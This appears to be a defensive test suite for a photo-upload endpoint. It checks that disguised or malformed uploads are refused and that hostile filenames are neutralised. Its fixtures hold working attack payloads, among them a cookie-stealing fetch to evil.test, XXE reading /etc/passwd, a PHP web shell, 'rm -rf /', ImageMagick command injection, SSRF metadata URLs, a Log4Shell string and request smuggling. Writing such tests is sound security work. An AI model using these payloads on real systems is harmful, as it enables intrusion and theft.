// Bytes and names from anybody. What is refused of honest mistakes is tested at
// test/server/files/photo-uploads/refusals.test.ts, slowness at
// test/server/http/slow-bodies.test.ts, and what broken pictures do to their decoders by
// `npm run fuzz`.
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { temporaryFolder } from "../imaging/temporary-folder.js";
import { eventually } from "../support/runner/eventually.js";
import { smallPhoto } from "../support/service/small-photo.js";
import { storedFiles } from "../support/service/stored-files.js";
import { startAttackedService, LEAKS, type AttackedService } from "./attacked-service.js";
import { head, sendRaw, type RawAnswer } from "./raw-request.js";

const LIMIT = 200_000;
const text = (content: string) => Buffer.from(content);
/** A picture, and behind it what a browser might take for a page. */
const SCRIPT = "<html><script>fetch('https://evil.test/'+document.cookie)</script>";

/** What calls itself a photo. */
const NO_PHOTOS: [what: string, bytes: () => Buffer][] = [
  [
    "SVG with a script",
    () => text(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`),
  ],
  ["SVG behind a byte order mark", () => text("\ufeff<svg xmlns='http://www.w3.org/2000/svg'/>")],
  [
    "SVG behind blanks and a comment",
    () => text("\n\n <!-- x --><svg xmlns='http://www.w3.org/2000/svg'/>"),
  ],
  [
    "SVG that includes a file of the disk",
    () =>
      text(
        `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM ` +
          `"file:///etc/passwd">]><svg ` +
          `xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
      ),
  ],
  ["SVG in gzip", () => Buffer.from("H4sIAAAAAAAAA7PJKEkFAAAA//8DAAAA", "base64")],
  ["a page", () => text(`<!doctype html>${SCRIPT}`)],
  ["a PDF", () => text("%PDF-1.7\n1 0 obj <</OpenAction <</S /JavaScript>>>> endobj")],
  ["PostScript", () => text("%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file")],
  [
    "a script for ImageMagick",
    () =>
      text(
        'push graphic-context\nviewbox 0 0 1 1\nfill "url(https://evil.test/|id)"\npop ' +
          "graphic-context",
      ),
  ],
  [
    "a playlist that names an address",
    () => text("#EXTM3U\n#EXTINF:1,\nhttp://169.254.169.254/latest/meta-data/"),
  ],
  ["a program", () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(200)])],
  ["a ZIP", () => Buffer.concat([text("PK\u0003\u0004"), Buffer.alloc(200)])],
  ["a shell script", () => text("#!/bin/sh\nrm -rf /\n")],
  ["a web shell behind GIF's first letters", () => text("GIF89a<?php system($_GET['c']); ?>")],
  [
    "a page behind JPEG's first bytes",
    () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), text(SCRIPT)]),
  ],
  [
    "a page behind PNG's first bytes",
    () => Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), text(SCRIPT)]),
  ],
  ["a WebP of no length", () => text("RIFF\0\0\0\0WEBP")],
  ["an AVIF of one box", () => Buffer.from("0000001c66747970617669660000000061766966", "hex")],
  ["a TIFF whose directory is itself", () => Buffer.from("49492a0008000000ffff08000000", "hex")],
  ["a BMP", () => Buffer.concat([text("BM"), Buffer.alloc(60)])],
  ["a thousand zeros", () => Buffer.alloc(1000)],
  ["one byte", () => Buffer.from([0xff])],
];

const NAMES: [what: string, name: string, kept: RegExp][] = [
  ["climbs", "../../../../etc/cron.d/x", /^x$/],
  ["climbs as Windows does", "..\\..\\windows\\win.ini", /^win\.ini$/],
  ["is a path from the root", "/etc/passwd", /^passwd$/],
  ["is two points", "..", /^/],
  ["has a NUL before its end", "a.php\0.png", /^a\.php\.png$/],
  ["has a line end and a header in it", "a.png\r\nset-cookie: x=1", /^a\.pngset-cookie: x=1$/],
  ["turns the reading round", "a\u202egnp.exe", /^agnp\.exe$/],
  ["has markup in it", "<img src=x onerror=alert(1)>.png", /^<img src=x onerror=alert\(1\)>\.png$/],
  ["has quotes in it", "a\";filename*=UTF-8''evil.html", /^a";/],
  ["has 5,000 characters", "x".repeat(5000), /^x{200}$/],
  ["looks like SQL", "'); drop table photos; --.png", /^'\); drop table photos; --\.png$/],
  ["is a template", "${jndi:ldap://evil.test/a}{{7*7}}", /a\}\{\{7\*7\}\}$/],
];

const part = (headers: string[], body: string | Buffer) =>
  Buffer.concat([text(`--x\r\n${headers.join("\r\n")}\r\n\r\n`), Buffer.from(body), text("\r\n")]);
const disposition = (name: string, filename?: string) =>
  "content-disposition: form-data; " +
  `name="${name}"${filename === undefined ? "" : `; filename="${filename}"`}`;
const END = text("--x--\r\n");

const FORMS: [what: string, body: () => Buffer][] = [
  [
    "a thousand parts",
    () =>
      Buffer.concat([
        ...Array.from({ length: 1000 }, (_, i) => part([disposition(`f${i}`)], "x")),
        END,
      ]),
  ],
  [
    "a hundred files",
    () =>
      Buffer.concat([
        ...Array.from({ length: 100 }, () => part([disposition("file", "a.png")], smallPhoto())),
        END,
      ]),
  ],
  [
    "a field of 100 kB",
    () => Buffer.concat([part([disposition("field")], "x".repeat(100_000)), END]),
  ],
  [
    "a hundred headers on its part",
    () =>
      Buffer.concat([
        part(
          [disposition("file", "a.txt"), ...Array.from({ length: 100 }, (_, i) => `x-${i}: y`)],
          "no photo",
        ),
        END,
      ]),
  ],
  [
    "a header of 60 kB on its part",
    () => Buffer.concat([part([disposition("file", "a".repeat(60_000))], "no photo"), END]),
  ],
  [
    "a part without a name",
    () => Buffer.concat([part(["content-disposition: form-data"], "x"), END]),
  ],
  [
    "a file whose name is __proto__",
    () => Buffer.concat([part([disposition("__proto__", "a.png")], smallPhoto()), END]),
  ],
  [
    "a field whose name is constructor",
    () => Buffer.concat([part([disposition("constructor")], "x"), END]),
  ],
  [
    "a form inside its form",
    () =>
      Buffer.concat([
        part(
          [disposition("file", "a.png"), "content-type: multipart/mixed; boundary=y"],
          "--y\r\n\r\nx\r\n--y--",
        ),
        END,
      ]),
  ],
  [
    "a file in base64",
    () =>
      Buffer.concat([
        part(
          [disposition("file", "a.png"), "content-transfer-encoding: base64"],
          smallPhoto().toString("base64"),
        ),
        END,
      ]),
  ],
  ["no end", () => part([disposition("file", "a.png")], text("GIF89a"))],
  ["nothing but boundaries", () => text("--x\r\n".repeat(5000))],
  ["a boundary that never comes", () => text("x".repeat(50_000))],
];

describe("an upload", () => {
  const folder = temporaryFolder().path;
  let service: AttackedService;
  let authorization: string;
  before(async () => {
    service = await startAttackedService({
      STORAGE_URL: `file:${folder}`,
      MAX_UPLOAD_BYTES: String(LIMIT),
      MAX_PHOTO_PIXELS: "1000000",
    });
    authorization = `authorization: Bearer ${service.victim.token}`;
  });
  after(() => service.close());

  function post(
    body: Buffer,
    headers: string[],
    announced = body.length,
    patienceMs?: number,
  ): Promise<RawAnswer> {
    return sendRaw(
      service.url,
      [head("POST /photos", [authorization, `content-length: ${announced}`, ...headers]), body],
      patienceMs,
    );
  }

  async function assertRefused({ status, body }: RawAnswer, ...statuses: number[]): Promise<void> {
    assert.ok(statuses.includes(status), `${status} ${body}`);
    assert.doesNotMatch(body, LEAKS);
    await eventually("nothing is kept", () => storedFiles(folder).length === 0);
    assert.equal((await service.database.sql`select from photos`).length, 0);
  }

  for (const [what, bytes] of NO_PHOTOS) {
    it(`is refused when it is ${what} and calls itself a JPEG`, async () =>
      assertRefused(await post(bytes(), ["content-type: image/jpeg"]), 415));
    it(`is refused when it is ${what} in a form`, async () =>
      assertRefused(
        await post(
          Buffer.concat([
            part([disposition("file", "a.jpg"), "content-type: image/jpeg"], bytes()),
            END,
          ]),
          ["content-type: multipart/form-data; boundary=x"],
        ),
        415,
      ));
  }
  for (const [what, body] of FORMS)
    it(`is refused as a form with ${what}`, async () =>
      assertRefused(
        await post(body(), ["content-type: multipart/form-data; boundary=x"]),
        400,
        413,
        415,
      ));

  it("is refused when it is cut by whoever sends it, or shorter than it says", async () =>
    assertRefused(await post(text("GIF89a"), ["content-type: image/gif"], 5000, 300), 0, 400, 408));
  it("is refused when it says it is longer than any may be, before it is sent", async () =>
    assertRefused(await post(Buffer.alloc(0), ["content-type: image/gif"], 1e12), 413));
  it("is refused when it says two lengths", async () =>
    assertRefused(await post(smallPhoto(), ["content-type: image/png", "content-length: 1"]), 400));
  it("is refused when it is chunked and says a length, which two servers read in two ways", async () =>
    assertRefused(
      await post(text("0\r\n\r\nGET /admin HTTP/1.1\r\n\r\n"), [
        "content-type: image/png",
        "transfer-encoding: chunked",
      ]),
      400,
    ));
  it("is refused when it has a header of a megabyte", async () =>
    assertRefused(
      await post(smallPhoto(), ["content-type: image/png", `x-filename: ${"x".repeat(1_000_000)}`]),
      0,
      431,
    ));
  it("is refused when it has 3,000 headers and no token among those that are read", async () =>
    assertRefused(
      await sendRaw(service.url, [
        head("POST /photos", [
          ...Array.from({ length: 3000 }, (_, i) => `x${i}: y`),
          authorization,
        ]),
        smallPhoto(),
      ]),
      0,
      401,
      431,
    ));
  it("is refused in chunks that are longer than it may be", async () => {
    const chunk = text(`10000\r\n${"\0".repeat(65_536)}\r\n`);
    await assertRefused(
      await sendRaw(service.url, [
        head("POST /photos", [
          authorization,
          "content-type: image/png",
          "transfer-encoding: chunked",
        ]),
        ...Array.from({ length: 8 }, () => chunk),
        "0\r\n\r\n",
      ]),
      0,
      413,
      415,
    );
  });
  it("is never unpacked: a bomb in gzip is no photo", async () =>
    assertRefused(
      await post(Buffer.from("1f8b08000000000000", "hex"), [
        "content-type: image/png",
        "content-encoding: gzip",
      ]),
      415,
    ));
  for (const url of [
    "http://169.254.169.254/latest/meta-data/",
    "file:///etc/passwd",
    "http://127.0.0.1:1/",
  ]) {
    it(`fetches no ${url} for anybody`, async () =>
      assertRefused(
        await post(text(JSON.stringify({ url })), [
          "content-type: application/json",
          `x-image-url: ${url}`,
        ]),
        415,
      ));
  }

  for (const [i, [what, name, kept]] of NAMES.entries()) {
    it(`keeps a name that ${what} out of the file system and out of headers`, async () => {
      const answer = await post(smallPhoto(9, 10 + i), [
        "content-type: image/png",
        `x-filename: ${encodeURIComponent(name)}`,
      ]);
      assert.equal(answer.status, 201, answer.body);
      const photo = JSON.parse(answer.body) as { id: string; filename: string; url: string };
      assert.match(photo.filename, kept);
      assert.deepEqual(
        storedFiles(folder).filter(
          (path) => !/^kept\/(photos|previews)\/[0-9a-f-]{36}\/[0-9a-f-]{36}$/.test(path),
        ),
        [],
      );
      const file = await sendRaw(service.url, head(`GET ${photo.url}`));
      assert.deepEqual([file.status, file.headers["set-cookie"]], [200, undefined]);
      assert.match(
        file.headers["content-disposition"] ?? "",
        /^inline; (filename="[\w .-]+"|filename\*=UTF-8''[\w%.!~*-]+)$/,
      );
      await service.victim.get("mutation ($id: ID!) { deletePhoto(id: $id) }", { id: photo.id });
    });
  }

  it("that is a picture and a page at once is served as a picture that no page can run", async () => {
    const answer = await post(Buffer.concat([smallPhoto(), text(SCRIPT)]), [
      "content-type: text/html",
      "x-filename: a.html",
    ]);
    assert.equal(answer.status, 201, answer.body);
    const file = await sendRaw(
      service.url,
      head(`GET ${(JSON.parse(answer.body) as { url: string }).url}`, ["accept: text/html"]),
    );
    assert.deepEqual(
      [
        file.headers["content-type"],
        file.headers["x-content-type-options"],
        file.headers["content-security-policy"],
      ],
      ["image/png", "nosniff", "sandbox; default-src 'none'"],
    );
  });

  it("of another's bytes gives one's own Photo, and does not tell that somebody has them", async () => {
    const bytes = smallPhoto();
    const [first, second] = [
      await service.victim.upload(bytes, { type: "image/png" }),
      await (await service.stranger()).upload(bytes, { type: "image/png" }),
    ];
    assert.deepEqual([first.status, second.status], [201, 201]);
    assert.notEqual(first.json["id"], second.json["id"]);
  });

  it("has harmed nobody", () => service.assertUnharmed());
});
